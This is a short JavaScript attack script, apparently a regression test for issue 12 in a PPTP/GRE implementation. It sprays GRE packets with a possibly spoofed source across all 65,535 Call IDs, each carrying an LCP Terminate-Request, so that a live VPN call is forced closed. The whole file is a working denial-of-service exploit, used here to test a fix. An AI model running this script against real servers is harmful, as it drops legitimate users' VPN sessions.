/**
 * Attack script (issue 12, PPTP Call IDs and the GRE window): GRE to the
 * server for every Call ID 1..65535, from `source` (the attacker's own
 * address, or the legitimate client's, spoofed), each carrying an LCP
 * Terminate-Request at sequence number `seq` (far from anything a young
 * call has reached). Before the fix the one packet that named the live
 * call resynchronised its channel and was delivered: the server's LCP
 * closed the call. Prints `SENT n`.
 */
import { encodeGre } from '../../../../src/pptp/gre.js';
import { ipv4Packet, sendRawIpv4 } from '../raw-ipv4.js';

const [server = '10.201.0.1', source = '10.201.0.3', seqArg = '2147483648', ppsArg = '30000'] = process.argv.slice(2);
// LCP Terminate-Request (code 5, id 0x42, length 4) with address and control fields.
const lcp = Uint8Array.of(0xff, 0x03, 0xc0, 0x21, 0x05, 0x42, 0x00, 0x04);
const gre = encodeGre({ callId: 1, seq: Number(seqArg) >>> 0, payload: lcp });
const packet = ipv4Packet(source, server, 47, gre);
// The Call ID is GRE octets 6-7: IPv4 header (20) + 6.
const sent = sendRawIpv4(packet, server, { offset: 26, from: 1, to: 65535 }, Number(ppsArg));
console.log(`SENT ${sent}`);
